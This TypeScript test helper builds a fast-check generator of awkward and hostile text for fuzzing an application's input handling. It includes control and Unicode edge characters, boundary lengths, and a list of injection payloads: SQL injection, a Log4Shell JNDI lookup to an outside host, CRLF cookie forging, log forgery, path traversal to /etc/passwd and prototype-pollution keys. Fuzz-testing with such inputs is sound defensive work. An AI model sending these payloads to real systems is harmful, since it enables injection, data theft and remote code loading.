import fc from 'fast-check';
import { HOSTILE_TEXTS } from './hostile-texts.ts';

/** Characters that storage, logs, mails and scripts have stumbled over. */
const TRICKY = [
  ...['\0', '\u0001', '\u001b', '\u007f', '\ud800', '\udfff', '\u202e', '\u2066', '\ufeff', '\u200b', '\u2028', '\u0085', '\t', '\n', '\r\n'],
  // Two ways to write é, a letter that grows when it is made small, ligature, Ohm, a family, four bytes.
  ...['e\u0301', 'é', 'İ', 'ß', 'ﬁ', '\u2126', '👩‍👩‍👧', '𝒳', 'ก็็็็', 'ا'],
  ...["'", '"', '`', '\\', '%', '_', ';', '--', '/*', '$1', '${', '{{', '<', '>', '&', '?', '#', ',', ' '],
];

/** Whole texts that have broken others' servers. */
const PAYLOADS = [
  "'; drop table users; --",
  "' or '1'='1",
  '\\x00',
  '%00',
  '%s%s%n',
  '\u0024{jndi:ldap://outside.example/a}',
  '\n{"level":60,"msg":"forged"}',
  '\r\nSet-Cookie: pinch-session=forged',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'NaN',
  '-0',
  '1e400',
  '9223372036854775808',
  '{"a":1}',
  '[]',
  'null',
  '',
  ' ',
];

/** Where the contract draws a line a text may be just short, just long enough or just too long. */
const LENGTHS = [2, 3, 5, 6, 40, 80, 100, 200, 254, 1_000, 2_000, 5_000, 20_000];

/** Text as somebody with too much time would write it. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: fc.constantFrom(...TRICKY), maxLength: 60 }),
  fc.constantFrom(...PAYLOADS),
  fc.constantFrom(...HOSTILE_TEXTS),
  fc
    .tuple(fc.constantFrom(...TRICKY, 'a'), fc.constantFrom(...LENGTHS), fc.integer({ min: -1, max: 1 }))
    .map(([unit, length, more]) => unit.repeat(length + more)),
);
